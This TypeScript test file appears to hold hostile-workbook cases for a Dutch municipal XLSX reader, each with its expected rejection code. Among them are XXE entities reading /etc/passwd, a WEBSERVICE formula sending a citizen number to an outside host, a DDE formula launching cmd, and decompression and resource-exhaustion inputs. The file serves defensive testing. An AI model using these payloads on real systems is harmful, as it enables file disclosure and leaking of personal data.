import { CANARY_BSN, CANARY_NAME } from "../canary.ts";
import { accepted, type CaseLine, casesOf, type Expected } from "../hostile-case.ts";
import {
  cellXml,
  MAIN,
  ofArnhem,
  rowXml,
  sheetXmlOf,
  soundPart,
  trajectory,
  trajectoryHeader,
  trajectoryWith,
  withFormat,
  withSharedTexts,
  workbook,
  workbookReplacing,
  workbookWithRows,
  workbookWithSheet,
} from "../inputs/workbook.ts";

const sound = rowXml(trajectory);
const header = rowXml(trajectoryHeader);
const start = (xml: string) => workbookWithRows(trajectoryWith("begindatum", xml));
const formatted = (code: string, value: string, changes = {}) =>
  workbookWithRows(trajectoryWith("begindatum", `<c s="1"><v>${value}</v></c>`), { ...withFormat(code), ...changes });
const numbered = (row: number) => `<row r="${row}">${trajectory.map(cellXml).join("")}</row>`;
const date = (name: string, value: string, expect: Expected): CaseLine => [
  `date ${name}`,
  expect,
  "takes it for another day",
  () => formatted("yyyy-mm-dd", value),
];

/** What stands in the sheets. */
const lines: readonly CaseLine[] = [
  ["cell without its place", accepted, "crashes, as other readers do", () => workbookWithRows(sound)],
  ["rows in the wrong order", "workbook/row-order", "moves rows", () => workbookWithRows(numbered(9) + numbered(5))],
  [
    "the same row number twice",
    "workbook/row-order",
    "overwrites a row",
    () => workbookWithRows(numbered(5) + numbered(5)),
  ],
  ["row zero", "workbook/row-order", "counts from nothing", () => workbookWithRows(numbered(0))],
  ["row 1,048,577", "workbook/row-order", "makes a million rows", () => workbookWithRows(sound + numbered(1_048_577))],
  [
    "far cell XFD1048576",
    "workbook/too-many-columns",
    "makes sixteen thousand million cells",
    () => workbookWithRows(`${sound}<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>`),
  ],
  [
    "column beyond the last",
    "workbook/cell-reference",
    "makes room for it",
    () => workbookWithRows(`${sound}<row r="5"><c r="ZZZZ5"><v>1</v></c></row>`),
  ],
  [
    "cell in another row",
    "workbook/cell-reference",
    "moves it",
    () => workbookWithRows(`${sound}<row r="5"><c r="A6"><v>1</v></c></row>`),
  ],
  [
    "cells in the wrong order",
    "workbook/cell-reference",
    "moves them",
    () => workbookWithRows(`${sound}<row r="5"><c r="B5"><v>1</v></c><c r="A5"><v>1</v></c></row>`),
  ],
  [
    "16,385 columns",
    "workbook/too-many-columns",
    "makes objects of 16,385 fields",
    () => workbookWithRows(sound + rowXml(Array(16_385).fill("x"))),
  ],
  [
    "300 columns",
    "workbook/too-many-columns",
    "makes objects of 300 fields",
    () => workbookWithRows(sound + rowXml(Array(300).fill("x"))),
  ],
  [
    "a million empty rows",
    accepted,
    "counts each as a record",
    () =>
      workbookWithRows(
        sound + Array.from({ length: 40_000 }, (_, index) => `<row r="${index * 7 + 10}" ht="${index}"/>`).join(""),
      ),
  ],
  [
    "merged cells in the header",
    accepted,
    "reads the first name for all",
    () =>
      workbookWithSheet(
        `<worksheet xmlns="${MAIN}"><sheetData>${header}${sound}</sheetData><mergeCells><mergeCell ref="A1:C1"/></mergeCells></worksheet>`,
      ),
  ],
  [
    "hidden row",
    "workbook/hidden",
    "leaves it out, or takes it in, in silence",
    () => workbookWithRows(sound.replace("<row>", '<row hidden="1">')),
  ],
  [
    "hidden column",
    "workbook/hidden",
    "leaves it out, or takes it in, in silence",
    () =>
      workbookWithSheet(
        `<worksheet xmlns="${MAIN}"><cols><col min="3" max="3" hidden="1"/></cols><sheetData>${header}${sound}</sheetData></worksheet>`,
      ),
  ],
  [
    "very hidden sheet",
    "workbook/hidden",
    "leaves it out in silence",
    () => workbookReplacing("xl/workbook.xml", 'name="Banen"', 'name="Banen" state="veryHidden"'),
  ],
  [
    "sheet with another name",
    "column/sheet-missing",
    "reads sheets by their order",
    () => workbookReplacing("xl/workbook.xml", 'name="Banen"', 'name="Blad2"'),
  ],
  [
    "sheet named after a person",
    "column/sheet-not-read",
    "shows the name",
    () =>
      workbookReplacing(
        "xl/workbook.xml",
        'name="Contacten"',
        `name="&quot;${CANARY_NAME}&quot; ${CANARY_BSN} \u{1f600}"`,
      ),
  ],
  [
    "chart sheet",
    "workbook/other-sheet",
    "crashes",
    () =>
      workbookReplacing(
        "xl/_rels/workbook.xml.rels",
        /worksheet(" Target="worksheets\/sheet3)/,
        'chartsheet" Target="worksheets/sheet3',
      ),
  ],
  ["empty sheet", "column/sheet-missing", "takes nobody for an answer", () => workbookWithSheet(sheetXmlOf(""))],
  ["header only", "record/reference-not-found", "takes nobody for an answer", () => workbookWithRows("")],
  [
    "no sheet data",
    "column/sheet-missing",
    "takes nobody for an answer",
    () => workbookWithSheet(`<worksheet xmlns="${MAIN}"/>`),
  ],
  [
    "strict namespace",
    accepted,
    "reads nothing",
    () => workbookWithSheet(sheetXmlOf(header + sound).replace(MAIN, "http://purl.oclc.org/ooxml/spreadsheetml/main")),
  ],
  [
    "wrong namespace",
    "workbook/no-workbook",
    "reads it all the same",
    () => workbookWithSheet(sheetXmlOf(header + sound).replace(MAIN, "urn:other")),
  ],
  [
    "prefixed namespace",
    accepted,
    "reads nothing",
    () =>
      workbookWithSheet(
        sheetXmlOf(header + sound)
          .replaceAll(/<(\/?)(\w)/g, "<$1x:$2")
          .replace("xmlns=", "xmlns:x="),
      ),
  ],
  ["formula with its value", accepted, "calculates it", () => start('<c t="str"><f>A1</f><v>2025-01-08</v></c>')],
  [
    "formula without a value",
    "workbook/formula-without-value",
    "takes it for empty",
    () => start("<c><f>TODAY()</f></c>"),
  ],
  [
    "formula that fetches",
    "workbook/formula-without-value",
    "fetches it",
    () => start(`<c><f>WEBSERVICE("http://x/${CANARY_BSN}")</f></c>`),
  ],
  [
    "formula that starts a program",
    "workbook/formula-without-value",
    "starts it",
    () => start("<c><f>cmd|'/c calc'!A0</f></c>"),
  ],
  ["error value", "workbook/error-value", "takes it for a text", () => start('<c t="e"><v>#N/A</v></c>')],
  ["boolean", "date/not-a-date", "takes it for a number", () => start('<c t="b"><v>1</v></c>')],
  ["unknown type of cell", "workbook/invalid-value", "takes it for a text", () => start('<c t="zz"><v>1</v></c>')],
  ["number that is none", "workbook/invalid-value", "takes it for zero", () => start("<c><v>0x1F</v></c>")],
  ["number without end", "workbook/invalid-value", "takes it for a number", () => start("<c><v>1e999</v></c>")],
  ["date without a format", "date/serial-number", "takes it for a number", () => start("<c><v>45665</v></c>")],
  date("as a number", "45665", accepted),
  date("29 February 1900, which never was", "60", "workbook/invalid-date"),
  date("below zero", "-1", "workbook/invalid-date"),
  date("with a part of a day", "45665.75", accepted),
  date("after the year 9999", "2958466", "workbook/invalid-date"),
  date("of twenty digits", "12345678901234567890", "workbook/invalid-date"),
  [
    "dates since 1904",
    accepted,
    "reads days four years too early",
    () =>
      formatted("yyyy-mm-dd", "44203", {
        "xl/workbook.xml": soundPart("xl/workbook.xml").replace("<bookViews>", '<workbookPr date1904="1"/><bookViews>'),
      }),
  ],
  ["date format that hides its value", accepted, "reads nothing", () => formatted("yyyy-mm-dd;;;", "45665")],
  [
    "format of a megabyte",
    "date/serial-number",
    "searches it for hours",
    () => formatted(`${"[$-413]".repeat(100_000)}d`, "45665"),
  ],
  [
    "number of a person as a number",
    accepted,
    "loses a zero",
    () => workbookWithRows(trajectoryWith("bsn", `<c><v>${CANARY_BSN}</v></c>`)),
  ],
  [
    "number of a person that was rounded",
    "person/bsn-rounded",
    "reads another person",
    () => workbookWithRows(trajectoryWith("bsn", cellXml("9,9999E+08"))),
  ],
  [
    "municipality that lost its zero",
    "code/municipality-lost-zero",
    "reads another municipality",
    () => workbookWithRows(trajectoryWith("gemeentecode", "<c><v>202</v></c>")),
  ],
  [
    "shared text",
    accepted,
    "reads its number",
    () =>
      workbookWithRows(
        trajectoryWith("begindatum", '<c t="s"><v>0</v></c>'),
        withSharedTexts("<si><t>2025-01-08</t></si>"),
      ),
  ],
  [
    "shared text in runs",
    accepted,
    "reads the first",
    () =>
      workbookWithRows(
        trajectoryWith("begindatum", '<c t="s"><v>0</v></c>'),
        withSharedTexts("<si><r><t>2025-</t></r><r><t>01-08</t></r></si>"),
      ),
  ],
  [
    "shared text that is not there",
    "workbook/missing-text",
    "takes it for empty",
    () =>
      workbookWithRows(trajectoryWith("begindatum", '<c t="s"><v>99</v></c>'), withSharedTexts("<si><t>a</t></si>")),
  ],
  ["no shared texts", "workbook/missing-text", "takes it for empty", () => start('<c t="s"><v>0</v></c>')],
  [
    "one huge shared text, used often",
    "workbook/text-too-large",
    "copies it for every cell",
    () =>
      workbookWithRows(
        `<row>${'<c t="s"><v>0</v></c>'.repeat(13)}</row>`.repeat(200),
        withSharedTexts(`<si><t>${`${CANARY_NAME}abcdefgh ijk `.repeat(30_000)}</t></si>`),
      ),
  ],
  [
    "100,000 shared texts packed a thousandfold",
    "workbook/suspicious-compression",
    "keeps them all",
    () => workbookWithRows(sound, withSharedTexts("<si><t>a</t></si>".repeat(100_000))),
  ],
  [
    "DOCTYPE",
    "workbook/unsafe-xml",
    "fetches what it names",
    () => workbookWithSheet(`<!DOCTYPE x SYSTEM "file:///etc/passwd">${sheetXmlOf(header + sound)}`),
  ],
  [
    "entity",
    "workbook/unsafe-xml",
    "puts a file in a cell",
    () => workbookWithSheet(`<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>${sheetXmlOf(rowXml(["&a;"]))}`),
  ],
  [
    "100,000 levels",
    "workbook/unsafe-xml",
    "runs out of stack",
    () => workbookWithSheet(sheetXmlOf(`${header}${"<a>".repeat(100)}`)),
  ],
  [
    "cell of 200,000 characters",
    "workbook/text-too-large",
    "keeps it",
    () => start(cellXml(`${CANARY_NAME}${"abc de".repeat(33_000)}`)),
  ],
  [
    "control character written as _x0007_",
    "workbook/control-character",
    "puts it in a text",
    () => start(cellXml("a_x0007_b")),
  ],
  [
    "faults in every cell of 20,000 rows",
    "workbook/error-value",
    "keeps a finding per cell",
    () =>
      workbookWithRows(
        Array.from(
          { length: 20_000 },
          (_, row) =>
            `<row r="${row + 2}" x="${(row * 7_919) % 100_003}">${`<c t="e"><v>#N/A${row}</v></c>`.repeat(13)}</row>`,
        ).join(""),
      ),
  ],
];

export const xlsxSheets = casesOf(lines, ofArnhem);
